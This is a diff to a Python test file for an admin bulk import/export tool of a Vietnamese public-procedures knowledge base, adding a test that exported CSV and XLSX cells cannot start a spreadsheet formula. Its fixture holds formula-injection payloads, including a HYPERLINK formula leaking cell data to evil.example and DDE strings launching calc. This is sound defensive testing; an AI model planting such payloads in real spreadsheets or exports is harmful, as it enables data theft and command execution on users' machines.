@@ -8,8 +8,10 @@ from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 from sqlalchemy.orm import Session, sessionmaker
 
+from assistant.db import session_scope
 from knowledge import crud
-from knowledge.admin.bulk import COLUMNS, dry_run, read_table
+from knowledge.admin.bulk import COLUMNS, dry_run, export_csv, export_xlsx, read_table
+from tests.factories import procedure_data
 from tests.knowledge.admin.conftest import StaffLogin
 from tests.knowledge.admin.forms import form_fields
 
@@ -84,8 +86,7 @@ def test_apply_writes_all_changes_and_reindexes(admin_client: TestClient, staff_
 
 def test_editor_checks_but_cannot_apply(admin_client: TestClient, staff_login: StaffLogin) -> None:
     user = staff_login(admin_client, role="editor")
-    response = admin_client.post("/admin/bulk/apply", data={"csrf_token": user.csrf_token, "payload": "",
-                                                            "filename": "a.csv", "versions": "{}"})
+    response = admin_client.post("/admin/bulk/apply", data={"csrf_token": user.csrf_token, "upload_id": "x"})
     assert response.status_code == 403
 
 
@@ -94,3 +95,48 @@ def test_unreadable_upload_is_explained(admin_client: TestClient, staff_login: S
     response = admin_client.post("/admin/bulk/dry-run", data={"csrf_token": user.csrf_token},
                                  files={"file": ("a.xlsx", b"not a zip", XLSX)})
     assert response.status_code == 422 and "Không đọc được tệp" in response.text
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "field": "+84 cmd|' /C calc'!A0",
+    "applicants": "-2+3+cmd|' /C calc'!A0",
+    "result": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "conditions": "'=không phải công thức, có sẵn dấu nháy",
+    "submission_address": "'Sổ đỏ' là cách gọi quen thuộc",
+}
+
+
+def test_exported_cells_never_start_a_formula_and_import_back_exactly(
+        session_factory: sessionmaker[Session]) -> None:
+    with session_scope(session_factory) as session:
+        crud.upsert_imported(session, data=procedure_data("1.001193", steps=["- Bước 1: nộp hồ sơ", "=1+1"],
+                                                          **HOSTILE))
+        crud.upsert_imported(session, data=procedure_data("1.000894", name="\t=cmd|' /C calc'!A0",
+                                                          result="\r=1+1"))
+    with session_factory() as session:
+        procedures = crud.all_procedures(session)
+        xlsx, exported_csv = export_xlsx(procedures), export_csv(procedures)
+
+    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]  # formulas as written, not their cached values
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
+    assert cells and all(cell.data_type == "s" for cell in cells), [c.value for c in cells if c.data_type != "s"]
+    rows = list(csv.reader(io.StringIO(exported_csv.decode("utf-8-sig"))))[1:]
+    for texts in ([str(c.value) for c in cells], [cell for row in rows for cell in row]):
+        assert not [t for t in texts if t and t[0] in "=+-@\t\r"], "a cell a spreadsheet would evaluate"
+        assert "'" + HOSTILE["name"] in texts and "''=không phải công thức, có sẵn dấu nháy" in texts
+        assert HOSTILE["submission_address"] in texts  # an apostrophe before ordinary text is left alone
+
+    for data, filename in ((xlsx, "a.xlsx"), (exported_csv, "a.csv")):
+        table = read_table(data, filename)
+        by_code = {row["code"]: row for row in table}
+        assert by_code["1.001193"]["name"] == HOSTILE["name"]
+        assert by_code["1.001193"]["conditions"] == HOSTILE["conditions"]
+        assert by_code["1.001193"]["steps"] == "- Bước 1: nộp hồ sơ\n=1+1"
+        with session_factory() as session:
+            report = dry_run(session, table)
+        # Leading blanks are trimmed by every import (tab, CR), so only those two fields may differ.
+        assert report.rejected == []
+        assert [(c.code, [f.name for f in c.fields]) for c in report.changes] in (
+            [], [("1.000894", ["name", "result"])])
+        assert report.unchanged + len(report.changes) == 2
